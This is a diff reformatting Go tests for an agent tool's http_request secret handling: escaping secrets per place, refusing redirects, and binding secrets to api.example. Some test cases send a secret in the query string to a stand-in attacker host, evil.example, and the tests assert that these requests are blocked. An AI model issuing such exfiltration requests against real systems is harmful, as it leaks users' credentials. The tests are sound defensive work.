@@ -35,7 +35,8 @@ func TestSecretsAreEscapedForTheirPlace(t *testing.T) {
 		b, _ := io.ReadAll(r.Body)
 		got.Lock()
 		defer got.Unlock()
-		got.path, got.query, got.basic, got.body = r.URL.Path, r.URL.Query().Get("k"), r.Header.Get("Authorization"), string(b)
+		got.path, got.query, got.basic, got.body = r.URL.Path, r.URL.Query().Get("k"), r.Header.Get("Authorization"),
+			string(b)
 	})
 	n.cfg.Secrets = vaultWith(t, "git", value)
 	for _, body := range []struct {
@@ -51,14 +52,24 @@ func TestSecretsAreEscapedForTheirPlace(t *testing.T) {
 		if body.kind != "" {
 			headers["Content-Type"] = body.kind
 		}
-		says(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/a/{{secret:git}}?k={{secret:git}}", "method": "POST", "headers": headers, "body": body.body}), "200")
+		says(t, n.do(t, "http_request", map[string]any{
+			"url":    "http://api.example/a/{{secret:git}}?k={{secret:git}}",
+			"method": "POST", "headers": headers, "body": body.body,
+		}), "200")
 		basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("ana:"+value))
-		if got.path != "/a/"+value || got.query != value || got.basic != basic || strings.ReplaceAll(got.body, `\u0026`, "&") != strings.ReplaceAll(body.want, `\u0026`, "&") {
+		if got.path != "/a/"+value || got.query != value || got.basic != basic ||
+			strings.ReplaceAll(got.body, `\u0026`, "&") != strings.ReplaceAll(body.want, `\u0026`, "&") {
 			t.Errorf("%s: got %q %q %q %q", body.kind, got.path, got.query, got.basic, got.body)
 		}
 	}
-	d := n.Describe(callOf("http_request", map[string]any{"url": "http://api.example/a/{{secret:git}}", "headers": map[string]string{"X-K": "{{secret:git}}"}}))
-	if len(d.Secrets) != 2 || d.Secrets[1] != (toolspec.SecretUse{Name: "git", Place: "header", Origin: "http://api.example"}) || !strings.Contains(d.Target, "/a/{{secret:git}}") {
+	d := n.Describe(callOf("http_request", map[string]any{
+		"url":     "http://api.example/a/{{secret:git}}",
+		"headers": map[string]string{"X-K": "{{secret:git}}"},
+	}))
+	if len(d.Secrets) != 2 || d.Secrets[1] != (toolspec.SecretUse{
+		Name: "git", Place: "header",
+		Origin: "http://api.example",
+	}) || !strings.Contains(d.Target, "/a/{{secret:git}}") {
 		t.Errorf("it is described as %+v", d)
 	}
 }
@@ -76,7 +87,10 @@ func TestSecretsDoNotFollowRedirects(t *testing.T) {
 	})
 	n.allowed = []string{"http"}
 	n.cfg.Secrets = vaultWith(t, "git", "value-of-git")
-	for _, to := range []string{"http://evil.example/?k=value-of-git", "http://api.example:8080/", "https://api.example/", "http://x.api.example/"} {
+	for _, to := range []string{
+		"http://evil.example/?k=value-of-git", "http://api.example:8080/",
+		"https://api.example/", "http://x.api.example/",
+	} {
 		for _, headers := range []map[string]string{{"X-Key": "{{secret:git}}"}, nil} {
 			args := map[string]any{"url": "http://api.example/?k={{secret:git}}&to=" + to}
 			if headers != nil {
@@ -85,13 +99,22 @@ func TestSecretsDoNotFollowRedirects(t *testing.T) {
 			fails(t, n.do(t, "http_request", args), toolspec.PermissionError, "the request contains a secret")
 		}
 	}
-	says(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?to=/here", "headers": map[string]string{"X-Key": "{{secret:git}}"}}), "after 1 redirects")
+	says(t, n.do(t, "http_request", map[string]any{
+		"url":     "http://api.example/?to=/here",
+		"headers": map[string]string{"X-Key": "{{secret:git}}"},
+	}), "after 1 redirects")
 	if len(reached) != 1 || !strings.Contains(reached["api.example"], "value-of-git") {
 		t.Errorf("reached %v", reached)
 	}
-	fails(t, n.do(t, "http_request", map[string]any{"url": "http://evil.example/?k={{secret:git}}"}), toolspec.SecurityError, "bound to api.example:80")
-	fails(t, n.do(t, "http_request", map[string]any{"url": "https://api.example/?k={{secret:git}}"}), toolspec.SecurityError, "bound to api.example:80")
-	fails(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?k={{secret:nobody}}"}), toolspec.UserError, "There are: git")
+	fails(t, n.do(t, "http_request", map[string]any{"url": "http://evil.example/?k={{secret:git}}"}),
+		toolspec.SecurityError, "bound to api.example:80")
+	fails(t, n.do(t, "http_request", map[string]any{"url": "https://api.example/?k={{secret:git}}"}),
+		toolspec.SecurityError, "bound to api.example:80")
+	fails(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?k={{secret:nobody}}"}),
+		toolspec.UserError, "There are: git")
 	n.cfg.Secrets = vaultWith(t, "pem", "-----BEGIN X-----\nabc\n")
-	fails(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/", "headers": map[string]string{"X-Key": "{{secret:pem}}"}}), toolspec.ValidationError, "line ends")
+	fails(t, n.do(t, "http_request", map[string]any{
+		"url":     "http://api.example/",
+		"headers": map[string]string{"X-Key": "{{secret:pem}}"},
+	}), toolspec.ValidationError, "line ends")
 }
